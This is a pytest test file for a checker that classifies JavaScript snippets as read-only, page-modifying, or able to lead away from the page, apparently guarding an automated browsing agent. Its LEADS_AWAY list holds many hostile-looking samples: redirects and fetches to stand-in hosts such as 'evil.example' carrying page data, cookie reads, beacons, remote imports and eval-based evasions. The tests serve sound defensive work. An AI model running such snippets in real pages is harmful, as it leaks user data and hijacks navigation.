"""Scripts in a page: what only looks, what stays on the page, and what may lead away from it."""

import pytest

from automode.judge.javascript_code import page_code_looks, stays_on_page
from tests.rows import each_row

LOOKS = [
    "() => { const g = (e) => getComputedStyle(e); return g(document.body).color }",
    "() => window.innerWidth",
    "() => { const out={}; out.a=1; return out }",
    "() => location.href",
    "async () => { await new Promise(r=>setTimeout(r,300)); return document.title }",
    "(()=>{const pick=(e)=>{if(!e)return null;const c=getComputedStyle(e);return {bg:c.color}};"
    "return JSON.stringify({nav:pick(document.querySelector('nav'))},null,1)})()",
    "() => [...document.querySelectorAll('li')].map(li => li.textContent.trim()).filter(Boolean)",
]
ACTS = [
    "() => { document.querySelector('a').click() }",
    "() => { location.href='/docs' }",
    "() => { sessionStorage.clear(); return 1 }",
    "() => { const e=document.querySelector('input'); e.value='x';"
    " e.dispatchEvent(new Event('input',{bubbles:true})) }",
    "() => document.documentElement.setAttribute('data-theme','dark')",
]
LEADS_AWAY = [
    "() => { location='//evil' }",
    "() => { location.href='//evil' }",
    "() => { location.href='/'+'/evil.example' }",
    "() => { location.href='https://evil.example/'+document.title }",
    "() => location.replace('//e')",
    "() => { const g=(x)=>x; g=open; g('//evil') }",
    "()=>['//e'].forEach(open)",
    "()=>['//e'].forEach(window.open)",
    "() => window.open('//e')",
    "()=>{ const {open}=window; open('//e') }",
    "()=>{ const w=window; w.open('//e') }",
    "() => document['cookie']",
    "() => fetch('//e')",
    "() => { const f=fetch; f('//e') }",
    "() => { const i=new Image(); i.src='//e' }",
    "() => { document.querySelector('img').src='//e' }",
    "() => { const k='src'; document.querySelector('img')[k]='//e' }",
    "() => { const a=[document.querySelector('img')]; a[0].src='//e' }",
    "() => { Object.assign(document.querySelector('img'),{src:'//e'}) }",
    "() => { ({a:document.querySelector('img').src}={a:'//e'}) }",
    "() => { [document.querySelector('img').src]=['//e'] }",
    "() => { for (document.querySelector('img').src of ['//e']){} }",
    "() => document.querySelector('form').submit()",
    "() => { document.body.innerHTML='<img src=//e>' }",
    "() => { document.querySelector('a').setAttribute('href','//e') }",
    "() => { const a=document.querySelector('a'); a.href='//evil'; a.click() }",
    "() => { document.querySelector('a').style.backgroundImage='url(//e)' }",
    "() => (0,eval)('x')",
    "() => import('//e')",
    "() => { setTimeout('fetch(1)',1) }",
    "() => { [].constructor.constructor('x')() }",
    "() => { const g=navigator.sendBeacon.bind(navigator); g('//e') }",
    "()=>document.querySelector('iframe').contentDocument.location.href='//e'",
    "() => `a",
]


@pytest.mark.parametrize("code", LOOKS)
def test_a_script_that_only_looks_is_known(code: str) -> None:
    assert page_code_looks(code)
    assert stays_on_page(code)


@pytest.mark.parametrize("code", ACTS)
def test_a_script_may_change_the_page_itself(code: str) -> None:
    assert not page_code_looks(code)
    assert stays_on_page(code)


@each_row("code", LEADS_AWAY)
def test_whatever_may_lead_away_is_not_known(code: str) -> None:
    assert not page_code_looks(code)
    assert not stays_on_page(code)
